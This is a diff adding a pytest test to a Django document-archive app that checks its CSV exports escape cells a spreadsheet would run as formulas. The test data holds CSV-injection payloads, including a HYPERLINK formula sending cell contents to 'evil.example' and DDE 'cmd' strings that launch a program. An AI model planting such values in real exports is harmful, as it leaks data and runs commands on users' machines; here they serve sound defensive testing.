@@ -9,8 +9,10 @@ import json
 import bibtexparser
 import pytest
 import rispy
+from django.core.management import call_command
 from django.test import Client
 
+from readingroom.catalogue.models import Document
 from readingroom.protocols import exports
 
 from .archive import PUBLIC_COUNT
@@ -46,3 +48,30 @@ def test_export_of_a_narrow_search(archive: None, client: Client) -> None:
     rows = list(csv.DictReader(io.StringIO(body(client, "/search/export.csv?repository=2"))))
     assert [r["id"] for r in rows] == ["3"]
     assert rows[0]["recipients"] == "Vyacheslav Molotov; Mao Zedong; Zhou Enlai; Politburo"
+
+
+# Cells a spreadsheet would run as formulas (OWASP's list of first characters).
+FORMULAS = {
+    "title": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "summary": "+1+cmd|' /C calc'!A0",
+    "citation": "-2+3",
+    "rights": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "classification": "\t=1+1",
+    "doc_type": "\r=1+1",
+}
+
+
+def test_no_csv_cell_starts_a_formula(archive: None, client: Client) -> None:
+    Document.objects.filter(public_id=4).update(**FORMULAS)
+    call_command("dump")
+    for path in ("/search/export.csv?sort=date", "/data/readingroom-documents.csv"):
+        response = client.get(path)
+        text = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
+        rows = list(csv.DictReader(io.StringIO(text, newline="")))
+        assert len(rows) == PUBLIC_COUNT, path
+        cells = [cell for row in rows for cell in row.values()]
+        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], path
+        row = next(r for r in rows if r["id"] == "4")
+        assert {name: row[name] for name in FORMULAS} == {
+            name: f"'{value}" for name, value in FORMULAS.items()
+        }, path
